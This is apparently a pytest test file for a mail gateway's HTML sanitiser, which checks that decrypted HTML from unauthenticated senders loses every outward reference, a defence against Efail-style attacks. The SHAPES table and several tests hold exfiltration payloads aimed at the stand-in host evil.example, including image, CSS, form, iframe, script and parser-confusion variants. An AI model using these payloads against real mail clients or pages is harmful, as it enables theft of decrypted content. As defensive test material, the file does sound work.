"""HTML that nobody vouches for points nowhere (Efail, gadget attacks on CBC; RFC 8551 §6)."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from siegel.base.buffers import joined
from siegel.flows import html
from siegel.flows.html import without_outward_references
from siegel.flows.opened_mail import MAX_HTML_PARTS, opened_content
from siegel.flows.site import Site
from siegel.mime.message import Part
from siegel.mime.parse import parse_message
from siegel.store.vault import Vault
from siegel.wording.words import Language
from tests.unit.smime.mails import mail, opened
from tests.unit.smime.test_layers import encrypted, mixed
from tests.unit.smime.test_structure import lines_of
from tests.work import costs_alike

URL = "http://evil.example/?"
HARMLESS = {"colspan", "rowspan", "dir", "lang"}
TAGS = frozenset(
    {
        *("a", "abbr", "b", "blockquote", "br", "caption", "code", "dd", "div", "dl", "dt", "em"),
        *("h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "li", "ol", "p", "pre", "q", "s"),
        *("small", "span", "strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th"),
        *("thead", "tr", "u", "ul"),
    }
)

SHAPES = {
    "img src": f'<img src="{URL}GEHEIM">',
    "img without end": f'<img src="{URL}GEHEIM',
    "img without quotes": f"<img src={URL}GEHEIM>",
    "img srcset": f'<img srcset="{URL}GEHEIM 2x">',
    "picture": f'<picture><source srcset="{URL}"><img></picture>',
    "svg": f'<svg><image href="{URL}" xlink:href="{URL}"/><use href="{URL}#a"/></svg>',
    "svg style": f"<svg><style>@import '{URL}';</style></svg>",
    "math": f'<math href="{URL}"><mtext><a href="{URL}">x</a></mtext></math>',
    "css url": f'<div style="background:url({URL})">x</div>',
    "css import": f"<style>@import url({URL});</style>",
    "css font": f"<style>@font-face{{src:url({URL})}}</style>",
    "css attribute": f'<style>a[href^="x"]{{background:url({URL})}}</style>',
    "link": f'<link rel="stylesheet" href="{URL}">',
    "link prefetch": '<link rel="dns-prefetch" href="//evil.example">',
    "base": f'<base href="{URL}"><a href="x">x</a>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={URL}">',
    "form": f'<form action="{URL}"><textarea name="a">GEHEIM</textarea><input type="image"></form>',
    "formaction": f'<button formaction="{URL}">x</button>',
    "iframe": f'<iframe src="{URL}"></iframe><frame src="{URL}">',
    "iframe srcdoc": f"<iframe srcdoc=\"<img src='{URL}'>\"></iframe>",
    "object": f'<object data="{URL}"><param name="src" value="{URL}"></object>',
    "embed": f'<embed src="{URL}">',
    "applet": f'<applet codebase="{URL}"></applet>',
    "video": f'<video poster="{URL}" src="{URL}"><track src="{URL}"></video>',
    "audio": f'<audio src="{URL}" autoplay>',
    "body background": f'<body background="{URL}" onload="x()">',
    "table background": f'<table background="{URL}"><td background="{URL}">x',
    "a href": f'<a href="{URL}" ping="{URL}">x</a>',
    "a mailto": '<a href="mailto:evil@evil.example?body=GEHEIM">x</a>',
    "cite": f'<blockquote cite="{URL}">x</blockquote><q cite="{URL}">y</q>',
    "ins": f'<ins cite="{URL}">x</ins><del cite="{URL}">y</del>',
    "script": f'<script src="{URL}">fetch("{URL}")</script>',
    "event": f"<b onmouseover=\"location='{URL}'\">x</b>",
    "manifest": f'<html manifest="{URL}">',
    "isindex": f'<isindex action="{URL}">',
    "bgsound": f'<bgsound src="{URL}"><layer src="{URL}">',
    "data": '<img src="data:image/svg+xml,<svg/>"><a href="data:text/html,x">y</a>',
    "javascript": '<a href="javascript:alert(1)">x</a>',
    "cid": '<img src="cid:1@evil.example">',
    "template": f'<template><img src="{URL}"></template>',
    "noscript": f'<noscript><p title="</noscript><img src={URL}>"></noscript>',
    "comment": f'<!--><img src="{URL}">-->',
    "conditional": f'<!--[if mso]><v:fill src="{URL}"/><![endif]-->',
    "xml": f'<?xml-stylesheet href="{URL}"?><!DOCTYPE x SYSTEM "{URL}">',
    "mutation": f'<math><mtext><table><mglyph><style><img src="{URL}">',
    "split": f'<img \n src\n=\n"{URL}\nGEHEIM\n">',
    "nul": f'<im\0g src="{URL}"><img\0src="{URL}">',
    "entity": "<img src=&#104;ttp://evil.example>",
    "textarea": f'<textarea><img src="{URL}"></textarea>',
    "plaintext": f'<plaintext><img src="{URL}">',
    "xss lang": f'<b lang=\'"><img src="{URL}">\'>x</b>',
}


class _Seen(HTMLParser):
    """Another parser than the sanitiser's."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.values: set[str] = set()
        self.declarations: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.values |= {value or "" for _, value in attrs}

    def handle_decl(self, decl: str) -> None:
        self.declarations.append(decl)

    def handle_pi(self, data: str) -> None:
        self.declarations.append(data)


def points_nowhere(text: str) -> bool:
    seen = _Seen(text)
    values = all(re.fullmatch(r"[\w-]{0,20}", value) for value in seen.values)
    harmless = seen.tags <= TAGS and seen.attributes <= HARMLESS
    return harmless and values and not seen.declarations


@pytest.mark.requirement("A3", "A17")
@pytest.mark.parametrize("shape", SHAPES.values(), ids=SHAPES.keys())
def test_no_known_way_out_is_left(shape: str) -> None:
    for document in (shape, f"<p>Guten Tag {shape} Ende</p>", f"<table><tr><td>{shape}"):
        assert points_nowhere(without_outward_references(document))


_NAMES = (
    "src",
    "href",
    "style",
    "srcset",
    "action",
    "data",
    "poster",
    "cite",
    "background",
    "lang",
)
_TAG_NAMES = ("a", "img", "p", "td", "svg", "style", "form", "b", "object", "q", "math", "table")
_pieces = st.one_of(
    st.sampled_from(list(SHAPES.values())),
    st.sampled_from(["<", ">", '"', "'", "/", "=", " ", "<!--", "-->", "</", "&lt;", "\0", "\n"]),
    st.builds(
        lambda tag, name, quote: f"<{tag} {name}={quote}{URL}{quote}>",
        st.sampled_from(_TAG_NAMES),
        st.sampled_from(_NAMES),
        st.sampled_from(['"', "'", ""]),
    ),
    st.text(max_size=20),
)


@settings(max_examples=400, deadline=None)
@given(pieces=st.lists(_pieces, max_size=12))
def test_whatever_is_put_together_points_nowhere(pieces: list[str]) -> None:
    cleaned = without_outward_references("".join(pieces))

    assert points_nowhere(cleaned)
    assert points_nowhere(without_outward_references(cleaned))


def test_entities_are_letters_unless_they_would_be_syntax() -> None:
    text = "&Uuml;ber&nbsp;uns &lt;img src='//evil.example'&gt; &amp;lt; &nvlt;b &unknown;"

    cleaned = without_outward_references("<p>" + text + "</p>")

    assert cleaned.startswith("<p>\u00dcber&nbsp;uns &lt;img")
    assert _Seen(cleaned).tags == {"p"}
    assert "&amp;lt;" in cleaned


def test_text_and_structure_stay() -> None:
    text = (
        '<h1>Bescheid</h1><table><tr><td colspan="2">Gr\u00fc\u00dfe &amp; mehr</td></tr></table>'
    )

    cleaned = without_outward_references(text)

    assert cleaned == text.replace("<tr>", "<tbody><tr>").replace("</tr>", "</tr></tbody>")


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("<b>" * (html.MAX_TAGS + 1), id="opening-tags"),
        pytest.param("</b>" * (html.MAX_TAGS + 1), id="closing-tags"),
        pytest.param("&x" * (html.MAX_ENTITIES + 1), id="entities"),
        pytest.param("<img src='//evil.example'>" + "x" * html.MAX_SIZE, id="size"),
    ],
)
def test_what_is_too_much_becomes_text(text: str) -> None:
    cleaned = without_outward_references(text)

    assert cleaned.startswith("<pre>")
    assert _Seen(cleaned).tags == {"pre"}


HEAVY = {
    "attributes": "<b " + " ".join(f"a{number}" for number in range(120_000)) + ">",
    "hidden ends": "<b " + " ".join(f"a{number}='>'" for number in range(90_000)) + ">",
    "odd quotes": '<b ="' + " ".join(f"a{number} " for number in range(120_000)) + '">',
    "attributes of an end": "</b " + " ".join(f"a{number}" for number in range(120_000)) + ">",
    "kept attributes": "<b " + " ".join(f"lang={number}" for number in range(90_000)) + ">",
    "open quotes": "<b a='" * html.MAX_TAGS + "x" * 1_000_000,
    "nested": "<div>" * html.MAX_TAGS,
    "nested and closed": "<b>" * html.MAX_TAGS + "</p>" * html.MAX_TAGS,
    "entities": "&x" * html.MAX_ENTITIES + "y" * 900_000,
    "escaped": "&amp;" * html.MAX_ENTITIES + "y" * 900_000,
    "declarations": "<![CDATA[" * 100_000,
}


@pytest.mark.parametrize("text", HEAVY.values(), ids=HEAVY.keys())
def test_no_text_within_the_limits_takes_long(text: str) -> None:
    """Against a text of the same kind as large as the limits allow, and not against a clock."""
    ordinary = "<p>Sehr geehrte Frau Huber,</p> das ist ein Bescheid. " * html.MAX_TAGS

    assert points_nowhere(without_outward_references(text))
    assert costs_alike(
        lambda: without_outward_references(text),
        lambda: without_outward_references(ordinary),
        factor=100,
    )


# in a whole message


def site() -> Site:
    return Site(
        hostname="gateway.example",
        language=Language.DE,
        vault=Vault.__new__(Vault),
        hops={},
        rng=lambda length: b"\7" * length,
    )


def delivered(entity: bytes, *, authenticated: bool) -> Part:
    found = opened(mail(encrypted(entity)), "huber")
    chunks = opened_content(found, site(), authenticated=authenticated)
    return parse_message(joined(chunks)).root


def leaves(part: Part) -> list[Part]:
    return [leaf for child in part.children for leaf in leaves(child)] or [part]


IMG = b'<p>Hallo</p><img src="http://evil.example/">\r\n'
KINDS = [
    pytest.param(b"text/html", id="html"),
    pytest.param(b"TEXT/HTML; charset=utf-8", id="upper-case"),
    pytest.param(b"application/xhtml+xml", id="xhtml"),
    pytest.param(b"text/html charset=utf-8", id="no-semicolon"),
    pytest.param(b"text/x-html", id="x-html"),
    pytest.param(b'"text/html"', id="quoted"),
    pytest.param(b"text/plain, text/html", id="two-types"),
    pytest.param(b"text/plain\r\nContent-Type: text/html", id="two-fields"),
    pytest.param(b"text/html\0", id="nul"),
    pytest.param(b'text/html; charset="utf-7"', id="utf-7"),
    pytest.param(b"text/html; charset=unknown-8bit", id="unknown-charset"),
]


@pytest.mark.requirement("A3", "A17")
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("nested", [False, True], ids=["root", "nested"])
def test_opened_mail_of_nobody_points_nowhere(kind: bytes, nested: bool) -> None:
    leaf = b"Content-Type: " + kind + b"\r\n\r\n" + IMG
    attached = b"Content-Type: message/rfc822\r\n\r\nSubject: x\r\n" + leaf
    entity = mixed(b"Content-Type: text/plain\r\n\r\nText\r\n", leaf, attached) if nested else leaf

    root = delivered(entity, authenticated=False)

    found = [one for one in leaves(root) if b"Hallo" in one.decoded()]
    assert len(found) == (2 if nested else 1)
    assert all(b"evil.example" not in one.decoded() for one in leaves(root))
    assert {one.media for one in found} == {"text/html"}


HTML = b"Content-Type: text/html\r\n\r\n" + IMG
CLOSED = [
    pytest.param(
        b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + lines_of(HTML),
        id="fail/encoded-message",
    ),
    pytest.param(
        b'Content-Type: multipart/mixed; boundary="\xc3\xa4"\r\n\r\n--\xc3\xa4\r\n' + HTML,
        id="fail/boundary-we-do-not-read",
    ),
    pytest.param(
        b"Content-Type: message/external-body; access-type=URL;"
        b' URL="http://evil.example/"\r\n\r\n' + HTML,
        id="fail/external-body",
    ),
]


@pytest.mark.requirement("A3", "A17")
@pytest.mark.parametrize("part", CLOSED)
@pytest.mark.parametrize("nested", [False, True], ids=["root", "nested"])
def test_what_only_others_look_into_is_text(part: bytes, nested: bool) -> None:
    root = delivered(mixed(part, HTML) if nested else part, authenticated=False)

    shown = leaves(root)[0]
    assert shown.media == "text/plain"
    assert b"evil.example" not in bytes(shown.header)


def test_a_part_without_header_is_text_for_everybody() -> None:
    """Who passes over a broken first line would see a header here, and HTML behind it."""
    part = b"no field\r\n" + HTML

    root = delivered(mixed(part), authenticated=False)

    assert bytes(root.children[0].exact) == b"\r\n" + part


@pytest.mark.parametrize("encoding", [b"base64", b"quoted-printable"])
def test_encoded_html_is_reduced_too(encoding: bytes) -> None:
    body = {
        b"base64": b"PGltZyBzcmM9Imh0dHA6Ly9ldmlsLmV4YW1wbGUvIj5IYWxsbw==\r\n",
        b"quoted-printable": b'<img src=3D"http:/=2Fevil.example/">Hallo\r\n',
    }[encoding]
    head = b"Content-Type: text/html\r\nContent-Transfer-Encoding: " + encoding + b"\r\n\r\n"

    root = delivered(head + body, authenticated=False)

    assert root.decoded().strip() == b"Hallo"


def test_more_html_than_any_mail_has_is_shown_as_it_is_written() -> None:
    leaf = b"Content-Type: text/html\r\n\r\n" + IMG

    few = delivered(mixed(*[leaf] * MAX_HTML_PARTS), authenticated=False)
    many = delivered(mixed(*[leaf] * (MAX_HTML_PARTS + 1)), authenticated=False)

    assert all(one.decoded() == b"<p>Hallo</p>\n" for one in few.children)
    assert all(one.decoded().startswith(b"<pre>&lt;p&gt;") for one in many.children)
    assert all(points_nowhere(one.decoded().decode()) for one in many.children)


def test_other_parts_stay_octet_for_octet() -> None:
    text = b"Content-Type: text/plain\r\n\r\nhttp://office.example/\r\n"
    xml = (
        b"Content-Type: application/xml; name=rechnung.xml\r\n\r\n<a href='http://x.example/'/>\r\n"
    )

    root = delivered(
        mixed(text, xml, b"Content-Type: text/html\r\n\r\n" + IMG), authenticated=False
    )

    assert [bytes(child.exact) for child in root.children[:2]] == [text, xml]


def test_html_of_somebody_whose_signature_counts_stays_as_it_is() -> None:
    entity = b"Content-Type: text/html\r\n\r\n" + IMG

    assert bytes(delivered(entity, authenticated=True).body) == IMG
